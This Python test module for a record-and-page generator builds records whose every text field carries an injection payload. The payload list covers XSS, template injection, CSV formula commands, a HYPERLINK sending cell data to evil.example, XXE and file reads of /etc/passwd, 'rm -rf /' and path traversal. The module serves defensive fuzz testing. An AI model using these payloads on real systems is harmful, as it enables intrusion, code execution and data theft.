"""What attackers write into fields, and records that carry it in every text field there is."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping
from typing import Any

from pydantic import BaseModel

from generator.kinds.reading import read_record
from generator.registers import fields as register_fields
from generator.registry import KINDS

MARK = "data-tiem"
"""Attribute of every element that a payload tries to bring in: none may ever be in a page's tree."""
PAYLOADS: Mapping[str, str] = {
    "together": f"\"'><script {MARK}>alert(1)</script><img {MARK} src=x onerror=alert(1)>"
    "{{ 7*7 }} @@slot:body@@ &lt;b&gt;",
    "script": f"<script {MARK}>alert(1)</script>",
    "script-split": f"</title></script><scr<script>ipt {MARK}>alert(1)</script>",
    "handler": f"<img {MARK} src=x onerror=alert(1)>",
    "attribute": f'" {MARK} onmouseover=alert(1) x="',
    "attribute-single": f"' {MARK} onfocus=alert(1) autofocus x='",
    "svg": f"<svg {MARK} onload=alert(1)><animate onbegin=alert(1)>",
    "frame": f"<iframe {MARK} srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "style": f"</style><style {MARK}>@import 'https://evil.example/x.css';</style>",
    "entities": f"&lt;script {MARK}&gt;alert(1)&lt;/script&gt; &#60;b {MARK}&#62;",
    "comment": f"--><b {MARK}>x</b><!-- ]]> <![CDATA[<b {MARK}>]]>",
    "unquoted": f"x onmouseover=alert(1) {MARK} `${{alert(1)}}` //",
    "handlers": f"<details {MARK} open ontoggle=alert(1)><video {MARK}><source onerror=alert(1)></video>",
    "half-a-tag": f"<img {MARK} src=x onerror=alert(1) ",
    "foreign": f"<math {MARK}><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table>",
    "svg-style": f"</svg><svg {MARK}><style>@import url(https://evil.example/)</style>"
    "<use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/><foreignObject><iframe src=x></iframe>",
    "head": f'"><meta {MARK} http-equiv=refresh content="0;url=https://evil.example/">'
    f"<base href=//evil.example><link {MARK} rel=stylesheet href=//evil.example/x.css>",
    "scheme": "javascript:alert(1)//https://evil.example/",
    "scheme-hidden": "JaVa&#9;ScRiPt&colon;alert(1) java\tscript:alert(1) vbscript:msgbox(1)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-svg": "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/%3E",
    "template": "{{ 7*7 }}{% raw %}{{ config }}{# x #}${7*7}#{7*7}<%= 7*7 %>",
    "template-loop": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{% endraw %}",
    "slots": "@@slot:body@@ @@slot:head@@ @@slot:title@@",
    # The shell's own marks: U+FDD0 is refused, whatever stands between two of them.
    "slots-own": "\ufdd0slot:body\ufdd0 \ufdd0slot:head\ufdd0",
    "slots-bare": "slot:body slot:head &#xFDD0;slot:title&#xFDD0;",
    "formula": "=cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-plus": '+HYPERLINK("https://evil.example/"&A1)',
    "formula-tab": "\t=1+1",
    "formula-wide": "＝cmd|' /C calc'!A0",
    "formula-semicolon": "x;=cmd|' /C calc'!A0;\"=1+1",
    "formula-lines": "- một\n=cmd|' /C calc'!A0\r\n@SUM(1)\n- cmd|' /C calc'!A0",
    "formula-quoted": '","=1+1","',
    "calendar": "x\\nEND:VEVENT\\nBEGIN:VALARM;TRIGGER:x, y\\; z\\\\",
    "calendar-lines": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nTRIGGER:-PT1M\rEND:VALARM\nX-Y:z",
    "calendar-long": "\\;,:" * 40 + "\U0001f600" * 10,
    "json": '</script><script>\\u003cscript\\u003e"}]}//\\',
    "json-comment": "<!--<script>//</script/ -->]]>",
    "separators": "a\u2028alert(1)\u2029b\x85c",
    "xml": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x; <?xml version='1.0'?><entry><id>x</id></entry>",
    "control": "a\0b\x01\x08\x0b\x1b[2J\x7f",
    "nonchar": "a\ufffeb\uffff",
    "surrogate": "a\ud800b",
    "typst": '#read("/etc/passwd") #eval("1+1") $x$ *b* _i_ <l> @ref `raw` ]]] #{ panic() }',
    "typst-lines": '= x\n#import "@preview/x:1.0.0": *\n/ a: b\n+ c\n#set page(width: 1pt)\\u{41}//x/*',
    "bibtex": "}, title = {x}, note = \\input{/etc/passwd} % $ & # _ ^ ~",
    "bibtex-entry": '}}\n@misc{x, title={y}}\n@comment{ " # \\}',
    "markdown": "[a](javascript:alert(1)) ![x](https://evil.example/p.png) <https://evil.example> [a][b]",
    "markdown-reference": '[b]: javascript:alert(1) "x"',
    "markdown-references": '[a][b] [b] ![c]\n\n[b]:\n  <javascript:alert(1)>\n[c]: data:text/html,x "y"',
    "markdown-block": "a\n===\n\n~~~\n</code></pre><script>alert(1)</script>\n~~~\n\n> - 1. # x\n\n    code",
    "markdown-page": "!!! note\n    x\n{: onclick=alert(1) }\n[TOC]\n--8<-- '/etc/passwd'\n[^1]\n\n[^1]: x",
    "bidi": "an\u202egpj.exe\u2066\u2069 x",
    "zero-width": "dân\u200b vận\u200d\u2060\ufeff",
    "bidi-marks": "\u061c\u200e\u200f\u202a\u2067 x",
    "tags": "x\U000e0041\U000e0042\u3164\u206f",
    "homoglyph": "Đảng ủу аpple.com \u0131\u017f\u212a",
    "percent": "%s %(x)s %n {0} {x!r} $HOME `id` $(id) ; rm -rf / | cat",
    "path": "../../../etc/passwd\\..\\x/.//",
    "loudspeaker": "(" * 60 + "XLVIII/0000 ngày 99/99/9999 25:99 ²³٣१ 0-0 999999999999999999999/0 m2/người",
    "loudspeaker-numbers": "1.1.1.1,1,1 năm 0000-00-00 IIIIVVXX/2024 00/00/0000 1–2–3 5%/‰ -",
    "long": "ữ" * 240,
    "long-word": "<b>" * 80,
}
"""Name to text."""
_ADDRESS = "https://example.net/a'b(c);x=1?q=%22%3E%3Cb%3E&amp;={{7*7}}#<".replace("<", "%3C")
_MOST_DROPS = 80
_STEP = re.compile(r"[^.\[\]]+|\[\d+\]")


class Filler:
    """Fills every field of a part, as its own schema lists them, with one text."""

    def __init__(self, schema: Mapping[str, Any], text: str) -> None:
        """Read the types of the parts from a JSON Schema."""
        self._parts = schema.get("$defs", {})
        self._text = text
        self.texts = 0
        """How many texts were filled in."""

    def mapping(self, schema: Mapping[str, Any]) -> dict[str, Any]:
        """Fill a mapping."""
        made = {name: self._value(inner) for name, inner in schema["properties"].items()}
        return {name: value for name, value in made.items() if value is not None}

    def _value(self, schema: Mapping[str, Any]) -> Any:
        if "$ref" in schema:
            return self.mapping(self._parts[schema["$ref"].rpartition("/")[2]])
        if "anyOf" in schema:
            options = [option for option in schema["anyOf"] if option.get("type") != "null"]
            richest = [option for option in options if option.get("type") == "array" or "$ref" in option]
            return self._value((richest or options)[0])
        if "enum" in schema:
            return schema["enum"][0]
        kind = schema.get("type")
        if kind == "array":
            return [self._value(schema["items"])]
        if kind == "object":
            return self.mapping(schema) if "properties" in schema else None
        return self._scalar(schema, kind)

    def _scalar(self, schema: Mapping[str, Any], kind: Any) -> Any:
        pattern = schema.get("pattern", "")
        if "https" in pattern:
            return _ADDRESS
        if "\\d{4}" in pattern:
            return "2024-01-10"
        if kind == "boolean":
            return True
        if kind == "integer" or (isinstance(kind, list) and "string" not in kind):
            return 1
        if pattern or (isinstance(kind, list) and kind[0] != "string"):
            return 5 if not pattern else None
        self.texts += 1
        # No two are the same: a picture may not be described by its record's title.
        return f"{self._text} {self.texts}"


def full_record(folder: str, text: str, base: Mapping[str, Any]) -> tuple[dict[str, Any], int]:
    """Make a record with a text in every field that takes one; what cannot stand together is dropped.

    Shape: `base` holds what a sound record needs; the number is that of texts left.
    """
    schema = KINDS[folder].record_type.model_json_schema(by_alias=True)
    record = {**Filler(schema, text).mapping(schema), **base}
    path = f"{folder}/2024/tiem.yaml"
    for _ in range(_MOST_DROPS):
        problems = [
            problem
            for problem in read_record(path, as_yaml(record), KINDS[folder]).problems
            if problem.severity == "error"
        ]
        if not problems:
            break
        for field in sorted({problem.field for problem in problems}, reverse=True):
            drop(record, field)
    return record, sum(isinstance(value, str) and value.startswith(text) for value in leaves(record))


def as_yaml(value: Mapping[str, Any]) -> bytes:
    """Write plain data as YAML: JSON is YAML."""
    lines = (f"{json.dumps(key)}: {json.dumps(inner, ensure_ascii=False)}\n" for key, inner in value.items())
    return "".join(lines).encode("utf-8", "surrogatepass")


def drop(tree: Any, path: str) -> None:
    """Take a field out of plain data, and what is left empty around it."""
    steps = [int(step[1:-1]) if step[0] == "[" else step for step in _STEP.findall(path)]
    _drop(tree, steps)


def _drop(tree: Any, steps: list[Any], *, inside: bool = False) -> None:
    if not steps or not isinstance(tree, (dict, list)):
        return
    head, rest = steps[0], steps[1:]
    try:
        inner = tree[head]
    except (KeyError, IndexError, TypeError):
        if isinstance(tree, dict) and inside:
            # A field that is missing cannot be dropped: what lacks it can.
            tree.clear()
        return
    if rest and isinstance(inner, (dict, list)):
        _drop(inner, rest, inside=True)
        if inner:
            return
    del tree[head]


def leaves(tree: Any) -> list[Any]:
    """List the scalars of plain data."""
    if isinstance(tree, dict):
        return [leaf for inner in tree.values() for leaf in leaves(inner)]
    if isinstance(tree, list):
        return [leaf for inner in tree for leaf in leaves(inner)]
    return [tree]


def register_entries(text: str, key: str) -> dict[str, dict[str, Any]]:
    """Make an entry of each register with a text in every field that takes one."""
    made: dict[str, dict[str, Any]] = {}
    own: dict[str, Callable[[], dict[str, Any]]] = {
        "places.yaml": lambda: {"type": "xa"},
        "organisations.yaml": lambda: {"place": "xa-an", "from": "2025-07-01"},
        "documents.yaml": lambda: {"type": "CT", "date": "2022-09-22"},
    }
    types: dict[str, type[BaseModel]] = {
        "places.yaml": register_fields.PlaceEntry,
        "organisations.yaml": register_fields.OrganisationEntry,
        "documents.yaml": register_fields.DocumentEntry,
    }
    for file, part in types.items():
        schema = part.model_json_schema(by_alias=True)
        entry = Filler(schema, text).mapping(schema)
        for name in ("parents", "successors", "to", "from", "place"):
            entry.pop(name, None)
        made[file] = {key: {**entry, **own[file]()}}
    made["glossary.yaml"] = {key.upper(): text}
    return made
